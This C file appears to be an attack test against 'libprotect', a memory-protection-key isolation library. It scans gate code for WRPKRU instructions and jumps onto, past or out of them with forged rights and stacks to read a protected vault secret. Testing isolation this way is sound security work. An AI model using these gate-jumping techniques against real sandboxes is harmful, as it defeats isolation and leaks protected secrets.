/* Jumping into a gate: onto its WRPKRU with every key open in eax, or just
 * past it with the application's rights, as if its check had passed; or
 * onto its way out (the second WRPKRU) with the library's own rights, which
 * that check accepts (a caller library's), and a stack of the attacker's;
 * or past the service gate's WRPKRU (libprotect's runtime with a library's
 * rights), with the library's rights in eax and a service that reads every
 * thread's counts; or the same into libprotect's runtime domain (slot 15,
 * its rights, its memory-call service).
 * gate_jump onto|past|exit|service|service-runtime */
#include "attack.h"
#include "gate_stub.h"
#include "libprotect_symbols.h"

#include <setjmp.h>
#include <stdint.h>

struct jump {
    const uint8_t *target;
    uint32_t id;
    struct vault_cell *cell;
};

static const volatile uint8_t *steal(void *arg)
{
    struct jump *j = arg;
    __asm__ volatile("mov %1, %%r11d\n xor %%eax, %%eax\n xor %%ecx, %%ecx\n xor %%edx, %%edx\n"
                     "mov $0, %%edi\n call *%0"
                     ::"r"(j->target), "r"(j->id) : "rax", "rcx", "rdx", "rdi", "rsi", "r8", "r9", "r10", "r11", "memory");
    return j->cell->secret;
}

static jmp_buf back;
static uint8_t stolen[VAULT_SECRET_LEN];
static const volatile uint8_t *secret_at;

/* Where the gate's way out returns to, with the rights it just wrote. */
static void landed(void)
{
    for (int i = 0; i < VAULT_SECRET_LEN; i++)
        stolen[i] = secret_at[i];
    longjmp(back, 1);
}

struct exit_jump {
    const uint8_t *wrpkru;
    uint32_t rights;
};

static const volatile uint8_t *steal_by_exit(void *arg)
{
    struct exit_jump *j = arg;
    static uint64_t stack[512];
    stack[500] = (uint64_t)(uintptr_t)landed; /* the "caller's stack": its return address */
    secret_at = vault_address(VAULT_DATA)->secret;
    if (setjmp(back))
        return stolen;
    __asm__ volatile("mov %0, %%r9\n xor %%ecx, %%ecx\n xor %%edx, %%edx\n jmp *%1"
                     ::"r"(&stack[500]), "r"(j->wrpkru), "a"(j->rights) : "rcx", "rdx", "r9", "memory");
    return NULL;
}

/* Past the service gate's WRPKRU: with the vault's rights and service 4
 * (every thread's counts), or (RUNTIME) with the runtime domain's rights,
 * slot 15, and its memory-call service. */
static int runtime;

static const volatile uint8_t *steal_by_service(void *arg)
{
    const uint8_t *past = arg;
    const uint32_t *table = libprotect_symbol("protect_gate_page"); /* domain 0: the vault */
    uint32_t rights = runtime ? table[15 * 128 / 4] : table[0], slot = runtime ? 15 : 0, svc = runtime ? 0 : 4;
    static uint64_t answer[16];
    __asm__ volatile("mov %2, %%eax\n mov %4, %%ebx\n mov %5, %%r13d\n lea %3, %%r12\n"
                     "xor %%ecx, %%ecx\n xor %%edx, %%edx\n call *%1"
                     ::"r"(0), "r"(past), "m"(rights), "m"(answer[0]), "m"(slot), "m"(svc)
                     : "rax", "rbx", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "r12", "r13", "memory");
    return vault_address(VAULT_DATA)->secret;
}

int main(int argc, char **argv)
{
    vault_open();
    runtime = argc > 1 && strcmp(argv[1], "service-runtime") == 0;
    if (argc > 1 && (strcmp(argv[1], "service") == 0 || runtime)) {
        const uint8_t *svc = libprotect_symbol("protect_service");
        for (int i = 0; svc && i < 4096; i++)
            if (svc[i] == 0x0f && svc[i + 1] == 0x01 && svc[i + 2] == 0xef)
                steal_in_child(steal_by_service, (void *)(svc + i + 3));
        blocked("no service gate found (a stripped libprotect only hides it)");
    }
    uint32_t id = 0;
    const uint8_t *gate = gate_of((const uint8_t *)vault_counter, &id);
    if (!gate)
        blocked("no gate found (not protected?)");
    const uint8_t *wrpkru = NULL;
    for (int i = 0; i < 4096 && !wrpkru; i++)
        if (gate[i] == 0x0f && gate[i + 1] == 0x01 && gate[i + 2] == 0xef)
            wrpkru = gate + i;
    if (!wrpkru)
        blocked("no WRPKRU in the gate");
    if (argc > 1 && strcmp(argv[1], "exit") == 0) {
        const uint8_t *second = NULL;
        for (int i = 3; i < 4096 && !second; i++)
            if (wrpkru[i] == 0x0f && wrpkru[i + 1] == 0x01 && wrpkru[i + 2] == 0xef)
                second = wrpkru + i;
        int key = key_of(vault_address(VAULT_DATA));
        uint32_t app, edx;
        __asm__ volatile("rdpkru" : "=a"(app), "=d"(edx) : "c"(0));
        if (!second || key < 1)
            blocked("no way out found in the gate, or no key on the library");
        struct exit_jump x = {second, app & ~(3u << (2 * key))};
        steal_in_child(steal_by_exit, &x);
    }
    struct jump j = {argc > 1 && strcmp(argv[1], "past") == 0 ? wrpkru + 3 : wrpkru, id, vault_address(VAULT_DATA)};
    steal_in_child(steal, &j);
}
